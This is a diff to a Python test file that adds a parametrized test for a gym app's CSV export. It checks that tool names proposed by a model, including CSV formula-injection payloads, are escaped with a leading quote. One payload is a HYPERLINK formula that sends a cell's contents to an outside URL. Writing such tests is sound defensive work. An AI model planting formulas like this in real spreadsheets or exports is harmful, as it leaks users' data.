@@ -143,6 +143,36 @@ def test_csv_has_one_line_per_call_of_the_period(client, two_gyms):
     assert {row[4] for row in rows[1:]} == {str(ours.conversation.pk)}
 
 
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("https://example.com/?leak="&A1,"Ver")',
+        "+1+cmd",
+        "-2+3",
+        "@SUM(1+1)",
+        "\tx",
+        "\r=1",
+    ],
+)
+def test_no_csv_cell_is_a_formula(client, two_gyms, name):
+    """An unknown tool's name, as the model proposed it, was written into a cell
+    as it came: a spreadsheet evaluated ``=HYPERLINK(...)``. Every cell starting
+    as a formula does is written after a single quote (OWASP)."""
+    ours, _theirs = two_gyms
+    ours.call(name, "unknown_tool")
+    client.force_login(ours.person("owner"))
+
+    response = client.get(
+        reverse("panel:verification-csv"), {"days": "7"}, headers=HEADERS
+    )
+
+    rows = list(csv.reader(io.StringIO(_text(response))))
+    cells = [cell for row in rows for cell in row]
+    assert any(name in cell for cell in cells)
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert f"'{name} ({name})" in cells
+
+
 @pytest.mark.parametrize("days", ["0", "31", "abc", ""])
 def test_a_bad_period_is_refused(client, two_gyms, days):
     ours, _theirs = two_gyms
